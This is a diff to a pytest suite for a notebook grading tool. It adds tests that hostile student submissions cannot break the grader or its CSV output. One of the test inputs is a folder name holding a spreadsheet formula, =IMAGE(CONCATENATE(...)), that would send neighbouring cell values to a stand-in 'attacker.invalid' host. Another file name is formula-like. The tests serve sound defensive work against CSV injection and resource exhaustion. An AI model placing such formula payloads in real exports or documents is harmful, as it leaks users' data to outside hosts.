@@ -8,6 +8,7 @@ sandbox (bubblewrap) the run is the normal one. Where it has none, the grader mu
 made with --no-sandbox, without the submissions that only a sandbox stops (they would really
 write outside, or read the checker), and every test of isolation checks the refusal instead.
 """
+import ast
 import collections
 import csv
 import json
@@ -18,6 +19,7 @@ import shutil
 import subprocess
 import sys
 import time
+import unicodedata
 from pathlib import Path
 
 import pytest
@@ -33,13 +35,18 @@ ESCAPES = [Path("/tmp/ikteach-escaped.txt"), Path("/var/tmp/ikteach-escaped.txt"
            ROOT / "ESCAPED.txt"] + PLANTED
 # only a sandbox stops these: without one they are left out (and the refusal is checked)
 NEEDS_SANDBOX = {"write_outside", "steal_solution", "fork_storm", "hostile", "remount_plant",
-                 "ref_checker_reimport"}
-TIMEOUT, GRADE_TIMEOUT = 10, 60
+                 "ref_checker_reimport", "fill_tmpfs", "ipc_relay"}
+TIMEOUT, GRADE_TIMEOUT, TMPFS_MB = 10, 60, 64
 ODD_STUDENT = b"student-\xff-name"          # a folder name that is not UTF-8
 ODD_FILE = b"02_jt_step-\xfe.ipynb"          # a notebook name that is not UTF-8
+LONG_NAME = "long-" + "x" * 250             # 255 bytes: the longest a folder name can be
+FORMULA = ('=IMAGE(CONCATENATE("https:",CHAR(47),CHAR(47),"attacker.invalid",CHAR(47),"?",'
+           'B3,C3,D3))')
+FORMULA_FILE = "=1+1+cmd.ipynb"
+MULLER = [unicodedata.normalize(form, "Müller") for form in ("NFC", "NFD")]
 
 
-STUDENTS = sorted(p.name for p in WRONG.iterdir() if p.is_dir()
+STUDENTS = sorted(p.name for p in WRONG.iterdir() if p.is_dir() and p.name != "storm_class"
                   and (SANDBOXED or p.name not in NEEDS_SANDBOX))
 Graded = collections.namedtuple("Graded", "rows feedback before log stderr refusal")
 
@@ -74,6 +81,11 @@ def hostile_folder(subs):
         cell["source"] = ("# \ud800 comment\n" if cell["cell_type"] == "code" else "\udfff ") + \
             "".join(cell["source"])
     (subs / "surrogate" / "06_singularity_study.ipynb").write_text(json.dumps(book))
+    for name in [LONG_NAME, FORMULA] + MULLER:  # issue 35: names the grader's files must hold
+        (subs / name).mkdir()
+        shutil.copy(solutions / "02_jt_step.ipynb", subs / name / "02_jt_step.ipynb")
+    (subs / "formula_file").mkdir()
+    (subs / "formula_file" / FORMULA_FILE).write_text("not a notebook")
 
 
 @pytest.fixture(scope="module")
@@ -94,7 +106,8 @@ def graded(tmp_path_factory):
         path.unlink(missing_ok=True)
     out = base / "out" / "grades.csv"
     command = [sys.executable, "-m", "ikteach.course.grade", str(subs), "--out", str(out),
-               "--timeout", str(TIMEOUT), "--grade-timeout", str(GRADE_TIMEOUT), "--jobs", "2"]
+               "--timeout", str(TIMEOUT), "--grade-timeout", str(GRADE_TIMEOUT), "--jobs", "2",
+               "--tmpfs-mb", str(TMPFS_MB)]
     # another OpenBLAS kernel in the grader than the default one (any x86-64 runs Prescott's):
     # the student's process must compute with the same, or no_cutoff's diagnosis changes
     env = dict(os.environ)
@@ -109,8 +122,8 @@ def graded(tmp_path_factory):
     run = subprocess.run(command, capture_output=True, text=True, timeout=1500, cwd=base, env=env)
     assert run.returncode == 0, run.stderr[-3000:]
     rows = {r["student"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
-    feedback = {p.stem: p.read_text(encoding="utf-8")
-                for p in (base / "out" / "feedback").glob("*.txt")}
+    pages = [p.read_text(encoding="utf-8") for p in (base / "out" / "feedback").glob("*.txt")]
+    feedback = {page.split("\n", 1)[0].removeprefix("Feedback for "): page for page in pages}
     return Graded(rows, feedback, before, run.stdout, run.stderr, refusal)
 
 
@@ -132,8 +145,10 @@ def refused(graded):
 def test_one_row_and_one_feedback_file_per_student(graded):
     students = {"solutions", "untouched", "symlink_file", "symlink_folder", "device", "dir_named",
                 "fifo", "deep_json", "deep_dict", "odd_file_name", "surrogate",
-                "student-\\xff-name"} | set(STUDENTS)
-    assert set(graded.rows) == students and set(graded.feedback) == students
+                "student-\\xff-name", LONG_NAME, "'" + FORMULA, "M\\xfcller", "Mu\\u0308ller",
+                "formula_file"} | set(STUDENTS)
+    assert set(graded.rows) == students  # the CSV's cell starts with ': no formula
+    assert set(graded.feedback) == students - {"'" + FORMULA} | {FORMULA}
 
 
 def test_solutions_get_full_marks(graded):
@@ -189,6 +204,12 @@ HOSTILE = [
     # as root too: detach the checker's cover, remount / and the package, new user namespace,
     # plant modules where the grader imports from (checked below); its function is right
     ("remount_plant", 2, 10, "passed, 10/10"),
+    # issue 35: fills /tmp, /dev/shm and HOME (checked below); its function is right
+    ("fill_tmpfs", 2, 10, "passed, 10/10"),
+    ("huge_array", 4, 0, "`dls_step` raised MemoryError"),
+    # answers left by the notebook's run in a POSIX queue, SysV memory and a keyring
+    ("ipc_relay", 2, 0, "`jt_step` raised RuntimeError: no relay: nothing the notebook's run "
+                        "left was found"),
 ]
 
 
@@ -241,6 +262,32 @@ def test_a_bad_file_costs_only_its_students_marks_with_a_reason(graded, student,
     assert scores(graded.rows[student]) == ([0.0] * 7, 0.0)
     assert reason in graded.rows[student]["notes"] and reason.split(": ", 1)[1] in \
         graded.feedback[student], graded.rows[student]
+
+
+def test_a_job_s_files_stay_within_its_tmpfs(graded):
+    """16 MiB files into /tmp, /dev/shm and HOME until the write fails: at most --tmpfs-mb in
+    each (they are RAM: unbounded, they ended the whole class's grading)."""
+    if refused(graded):
+        return
+    note = re.search(r"MiB written: (\{.*\})", graded.feedback["fill_tmpfs"])
+    written = ast.literal_eval(note.group(1))  # {folder: MiB}, as the note quotes it
+    assert set(written) >= {"/tmp", "/dev/shm"} and len(written) == 3, written
+    assert all(0 < mib <= TMPFS_MB for mib in written.values()), written
+
+
+def test_a_cell_magic_on_each_solution_still_gets_full_marks(graded):
+    assert scores(graded.rows["cell_magic"]) == ([10.0] * 7, 70.0)
+
+
+def test_any_name_gets_one_row_that_no_spreadsheet_runs(graded):
+    """A 255-byte folder name, formulas as a folder and a notebook name, and one name in two
+    Unicode normalisations: each student a row of its own, no cell starting a formula."""
+    rows = graded.rows
+    for student in [LONG_NAME, "'" + FORMULA, "M\\xfcller", "Mu\\u0308ller"]:
+        assert scores(rows[student])[1] == 10.0, student
+    assert rows["formula_file"]["notes"].startswith("'" + FORMULA_FILE + ": could not read")
+    for row in rows.values():
+        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
 
 
 def test_odd_names_and_lone_surrogates_are_graded(graded):
